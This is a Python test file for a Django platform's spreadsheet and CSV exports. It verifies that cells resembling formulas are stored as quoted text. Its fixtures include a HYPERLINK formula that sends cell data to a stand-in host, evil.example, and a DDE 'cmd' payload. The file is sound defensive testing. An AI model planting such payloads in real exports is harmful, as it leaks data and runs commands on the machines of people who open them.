"""No text a user typed is ever evaluated as a formula in a file the platform hands out: every .xlsx is saved
through `smartgov.workbooks.workbook_bytes` and every CSV field goes through `csv_field` — shown on the writers
one by one, and enforced on the source (no other place saves a workbook)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from assessments.services import Entry, values_save
from smartgov.workbooks import csv_field, csv_rows, workbook_bytes

ROOT = Path(__file__).resolve().parents[1]
APPS = ("api", "assessments", "audit", "indicators", "reports", "smartgov", "surveys")
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
LOOKALIKES = (ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_saved_workbook_keeps_lookalikes_as_text_and_numbers_as_numbers():
    workbook = Workbook()
    sheet = workbook.active
    for text in LOOKALIKES:
        sheet.append([text, -2.5, "普通文本"])
    cells = _cells(workbook_bytes(workbook))
    assert [c.value for c in cells[::3]] == [t.replace("\r", "\n") for t in LOOKALIKES]  # XML reads \r as \n
    assert {c.data_type for c in cells[::3]} == {"s"}
    assert all(c.quotePrefix for c in cells[::3])
    assert {(c.value, c.data_type) for c in cells[1::3]} == {(-2.5, "n")}
    assert not any(c.quotePrefix for c in cells[2::3])


@pytest.mark.parametrize("text", LOOKALIKES)
def test_a_csv_field_that_begins_like_a_formula_is_marked_as_text(text):
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["-1.5", "+3", "-.5", "1e-3", -1.5, 42, None, "杭州市", "a=b"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert csv_field(value) == value


def test_csv_rows_defuse_every_field():
    assert csv_rows([["=1+1", "-2"], ["@x", 3]]) == [["'=1+1", "-2"], ["'@x", 3]]


SAVES = re.compile(r"\b\w+\.save\((buffer|out|stream|path|target)")


def test_no_module_saves_a_workbook_but_the_one_that_defuses_formulas():
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path == ROOT / "smartgov" / "workbooks.py":
                continue
            text = path.read_text(encoding="utf-8")
            if "openpyxl" in text and SAVES.search(text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_no_module_writes_csv_rows_of_user_text_unguarded():
    """Every csv writer that writes rows a user could have typed passes them through csv_rows/csv_field."""
    unguarded = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                written = re.findall(r"\.writerows?\((.*)\)", text)
                if any("csv_rows" not in w and "csv_field" not in w and not _constant_headers(w) for w in written):
                    unguarded.append(str(path.relative_to(ROOT)))
    assert unguarded == [], "pass user text through smartgov.workbooks.csv_rows"


def _constant_headers(argument: str) -> bool:
    """A header row or the template's example row: text the platform wrote, not a user."""
    return argument.startswith(("[_(", "list(FILE_COLUMNS)", "[column.zh", "[examples["))


@pytest.mark.django_db
def test_a_note_like_a_formula_stays_text_in_the_submission_and_province_templates(client, submission, people,
                                                                                   settings, tmp_path):
    values_save(submission=submission, entries={"RS01": Entry(42.0, ATTACK)}, actor=people["officer"],
                expected_version=None)
    client.force_login(people["analyst"])
    for url in (reverse("submission-excel", args=[submission.pk]),
                reverse("province-excel", args=[submission.cycle_id, "330000"])):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(b"".join(response.streaming_content) if response.streaming else response.content)
        notes = [c for c in cells if c.value == ATTACK]
        assert notes, url
        assert {c.data_type for c in notes} == {"s"}, url
        assert not [c for c in cells if c.data_type == "f"], url


@pytest.mark.django_db
def test_the_api_csv_marks_a_formula_lookalike_and_keeps_signed_numbers(client, people, regions):
    from api.renderers import CSVRenderer

    rendered = CSVRenderer().render([{"name": ATTACK, "change": "-1.5", "index": -1.5}])
    rows = list(csv.reader(io.StringIO(rendered.decode("utf-8-sig"))))
    assert rows == [["name", "change", "index"], ["'" + ATTACK, "-1.5", "-1.5"]]
